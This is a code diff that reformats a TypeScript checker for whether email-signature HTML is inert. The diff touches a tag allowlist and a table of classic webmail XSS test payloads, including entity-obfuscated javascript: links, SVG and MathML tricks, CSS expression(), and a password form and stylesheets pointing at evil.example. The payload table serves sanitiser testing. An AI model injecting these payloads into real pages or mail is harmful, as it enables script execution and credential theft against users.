@@ -40,7 +40,8 @@ export function inertnessProblems(html: string, options: InertOptions): string[]
       if (name === 'href' && !['http', 'https', 'mailto'].includes(scheme(value) ?? '')) {
         problems.push(`href ${value}`);
       }
-      if (name === 'src' && !options.imageSchemes.includes(scheme(value) ?? '')) problems.push(`src ${value}`);
+      if (name === 'src' && !options.imageSchemes.includes(scheme(value) ?? ''))
+        problems.push(`src ${value}`);
       if (name === 'style' && /url\s*\(|expression\s*\(|\\|@import|behavior|binding/i.test(value)) {
         problems.push(`style ${value}`);
       }
@@ -50,8 +51,29 @@ export function inertnessProblems(html: string, options: InertOptions): string[]
 }
 
 export const SIGNATURE_TAGS = [
-  'b', 'strong', 'i', 'em', 'u', 's', 'br', 'p', 'div', 'span', 'a', 'img', 'hr', 'ul', 'ol', 'li',
-  'blockquote', 'table', 'thead', 'tbody', 'tr', 'td', 'th',
+  'b',
+  'strong',
+  'i',
+  'em',
+  'u',
+  's',
+  'br',
+  'p',
+  'div',
+  'span',
+  'a',
+  'img',
+  'hr',
+  'ul',
+  'ol',
+  'li',
+  'blockquote',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'td',
+  'th',
 ];
 
 /** Classic webmail attacks; each is appended to visible text so a signature stays valid. */
@@ -63,14 +85,17 @@ export const HOSTILE_HTML: Record<string, string> = {
   'javascript: link': '<a href="javascript:alert(1)">a</a>',
   'javascript: link, tab entity': '<a href="jav&#x09;ascript:alert(1)">a</a>',
   'javascript: link, spaces and case': '<a href="  JaVaScRiPt:alert(1)">a</a>',
-  'javascript: link, numeric entities': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
+  'javascript: link, numeric entities':
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
   'data: link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
   'data: image': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
   'vbscript: link': '<a href="vbscript:msgbox(1)">a</a>',
   'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  'svg animate': '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/><a id="x"><text x="20" y="20">click</text></a></svg>',
+  'svg animate':
+    '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/><a id="x"><text x="20" y="20">click</text></a></svg>',
   'svg set': '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
-  'mathml maction': '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK<mtext>x</mtext></maction></math>',
+  'mathml maction':
+    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK<mtext>x</mtext></maction></math>',
   'mathml link': '<math href="javascript:alert(1)"><mi>x</mi></math>',
   'css url()': '<span style="color:red;background:url(javascript:alert(1))">c</span>',
   'css expression()': '<span style="color:expression(alert(1))">c</span>',
@@ -80,7 +105,8 @@ export const HOSTILE_HTML: Record<string, string> = {
   'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
   'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
   form: '<form action="https://evil.example/"><input name="p" type="password"><button formaction="javascript:alert(1)">go</button></form>',
-  'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
+  'object and embed':
+    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
   'style element': '<style>@import "https://evil.example/x.css"; body{background:url(x)}</style>',
   comment: '<!--<img src=x onerror=alert(1)>-->',
   'template element': '<template><img src=x onerror=alert(1)></template>',
